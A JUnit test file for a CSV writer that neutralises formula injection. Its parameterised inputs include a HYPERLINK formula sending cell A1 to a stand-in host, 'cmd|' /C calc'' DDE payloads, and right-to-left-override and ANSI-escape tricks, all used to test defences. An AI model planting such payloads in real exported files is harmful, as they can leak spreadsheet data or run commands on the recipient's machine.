package dev.livenessdesk.core.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/** OWASP's CSV-injection rule, trigger by trigger, as a spreadsheet would meet each cell. */
class CsvWriterTest {

    @ParameterizedTest(name = "a cell starting with {0} is not run as a formula")
    @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"})
    void eachFormulaTriggerGetsALeadingApostropheAndQuotes(String hostile) {
        String cell = CsvWriter.cell(hostile);

        assertThat(cell).startsWith("\"'").endsWith("\"");
        assertThat(cell.substring(2, cell.length() - 1)).isEqualTo(hostile.replace("\"", "\"\""));
    }

    @Test
    void aLeadingTabOrCarriageReturnIsNeutralisedAndShown() {
        assertThat(CsvWriter.cell("\t=1+1")).isEqualTo("\"'[U+0009]=1+1\"");
        assertThat(CsvWriter.cell("\r=1+1")).isEqualTo("\"'[U+000D]=1+1\"");
    }

    @Test
    void aSeparatorOrQuoteInsideACellCannotStartACellOfItsOwn() {
        assertThat(CsvWriter.cell("ana,=1+1")).isEqualTo("\"ana,=1+1\"");
        assertThat(CsvWriter.cell("ana;=1+1")).isEqualTo("\"ana;=1+1\"");
        assertThat(CsvWriter.cell("say \"=1+1\"")).isEqualTo("\"say \"\"=1+1\"\"\"");
        assertThat(CsvWriter.cell("o'=1+1")).isEqualTo("\"o'=1+1\"");
        assertThat(CsvWriter.cell("line\n=1+1")).isEqualTo("line[U+000A]=1+1");
    }

    @Test
    void numbersAndPlainTextStayAsTheyAre() {
        assertThat(CsvWriter.cell("-1.5")).isEqualTo("-1.5");
        assertThat(CsvWriter.cell("+42")).isEqualTo("+42");
        assertThat(CsvWriter.cell("97.25")).isEqualTo("97.25");
        assertThat(CsvWriter.cell("LOW_LIGHTING_DETECTED")).isEqualTo("LOW_LIGHTING_DETECTED");
        assertThat(CsvWriter.cell("2026-10-01T08:58:00Z")).isEqualTo("2026-10-01T08:58:00Z");
        assertThat(CsvWriter.cell(null)).isEmpty();
        assertThat(CsvWriter.cell("-")).as("a lone minus is no number").isEqualTo("\"'-\"");
    }

    @Test
    void rowsAreRfc4180WithCrLfAndControlCharactersVisible() throws Exception {
        StringWriter out = new StringWriter();
        new CsvWriter(out).row(List.of("id", "tester")).row(Arrays.asList("a", "\u202Egnp.exe")).row(
                Arrays.asList(null, "\u001b[31mred")).flush();

        assertThat(out).hasToString("id,tester\r\na,[U+202E]gnp.exe\r\n,[U+001B][31mred\r\n");
    }
}
